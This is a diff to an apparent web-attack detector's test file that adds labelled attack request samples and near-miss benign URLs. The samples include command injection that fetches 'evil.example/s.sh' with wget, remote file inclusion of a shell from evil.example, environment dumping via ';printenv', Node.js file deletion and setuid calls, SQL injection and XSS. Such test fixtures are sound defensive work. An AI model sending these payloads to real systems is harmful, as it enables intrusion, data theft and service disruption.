@@ -366,6 +366,35 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['xss-attribute-injection', '/s?q=x%22%20allowscriptaccess=%22always'],
   ['xss-attribute-injection', '/s?q=x%27%20style=%27background:url(//evil.example/c)'],
   ['xss-attribute-injection', '/s?q=<embed%20allowscriptaccess=always%20src=x.swf>'],
+  // The techniques named by the titles of the CRS rules whose eval tests were still missed most (batch 10 of
+  // bench/threat-attacks-by-technique.txt): PHP settings and variables, Node.js file and process calls, a
+  // command line in a parameter named for one, JSON functions of SQL Server and MySQL.
+  ['php-directive', '/index.php?x=session.save_path=/tmp'],
+  ['php-directive', '/index.php?x=cgi.force_redirect=0'],
+  ['php-directive', '/index.php?x=zend_extension=/tmp/x.so'],
+  ['php-directive', '/index.php?x=phar.readonly=0'],
+  ['php-superglobal', '/index.php?x=$HTTP_POST_FILES'],
+  ['php-superglobal', '/index.php?x=${_GET}[a]'],
+  ['php-superglobal', "/index.php?x=${'_SERVER'}"],
+  ['generic-node-call', "/api?x=fs.readdirSync('.')"],
+  ['generic-node-call', "/api?x=fs.unlink('/app/index.js',()=>{})"],
+  ['generic-node-injection', '/api?x=process.setuid(0)'],
+  ['generic-node-injection', "/api?x=process.stdout.write('x')"],
+  ['generic-node-injection', '/api?x=process.constructor'],
+  ['generic-node-dos', '/api?x=for(var i=0;;i++){}'],
+  ['rce-direct-command', '/run?exec=wget%20http://evil.example/s.sh'],
+  ['rce-direct-command', '/run?cmd=chmod%20777%20/tmp/x'],
+  ['rce-command-chain', '/ping?host=127.0.0.1;printenv'],
+  ['sqli-json-operator', "/item?id=1%20AND%20ISJSON('{}')=1"],
+  ['sqli-json-operator', "/item?id=1%20or%20json_depth('{}')=1"],
+  ['rce-shell-path', '/run?x=bin/bash'],
+  ['rce-shell-path', '/run?x=id%202>/dev/null'],
+  ['rce-shell-path', '/run?x=/dev/fd/0'],
+  ['xss-handler-attribute', '/s?q=<x%20xmlns:ev=%22http://www.w3.org/2001/xml-events%22%20ev:event=%22load%22%20ev:handler=%22data:,alert(1)%22>'],
+  ['generic-node-dos', '/api?x=while(!![])%7Bx%7D'],
+  ['generic-node-dos', '/api?x=while(i<Infinity)%20i%2B%2B'],
+  ['rfi-include-param', '/index.php?pagina=http://evil.example/shell.txt'],
+  ['rfi-include-param', '/index.php?path_to_root=http://evil.example/shell.txt'],
 ];
 
 /** Attacks in the User-Agent, for the detectors that read only that field. */
@@ -580,6 +609,23 @@ const BENIGN: readonly string[] = [
   `/mail/preview?tpl=${Buffer.from('Hello {{name}}, your order {{order.id}} shipped').toString('base64')}`,
   `/cms/preview?html=${encodeURIComponent(Buffer.from('<div class="promo" onclick="track(1)">Sale</div>').toString('base64'))}`,
   '/rails/active_storage/blobs/redirect/eyJfcmFpbHMiOnsibWVzc2FnZSI6IkJBaHBCZz09IiwiZXhwIjpudWxsLCJwdXIiOiJibG9iX2lkIn19--abc123/shoe.jpg',
+  // Near the batch-10 forms: a file manager's own verbs, a setting's name in a docs search, prose with "process.".
+  '/connector?cmd=chmod&mode=755&target=l1_Lw',
+  '/docs?command=git%20status',
+  '/run?cmd=test',
+  '/docs/search?q=session.save_path%20permissions',
+  '/upload?extension=pdf',
+  '/search?q=business%20process.%20Global%20teams',
+  '/search?q=process.%20Constructor%20kits',
+  '/search?q=fs%20readdirSync%20example',
+  '/search?q=isjson%20sql%20server',
+  '/blog?tag=for%20loops',
+  '/search?q=2%3E/dev/null',
+  '/browse?path=xbin/sh',
+  '/search?q=while%20(supplies%20last)%20grab%20one',
+  '/search?q=shop%20while%20(stocks%20last);%20free%20shipping',
+  '/cal?filter=type:event=1',
+  '/index.php?url=http://partner.example/feed.xml',
 ];
 
 describe('rule families', () => {
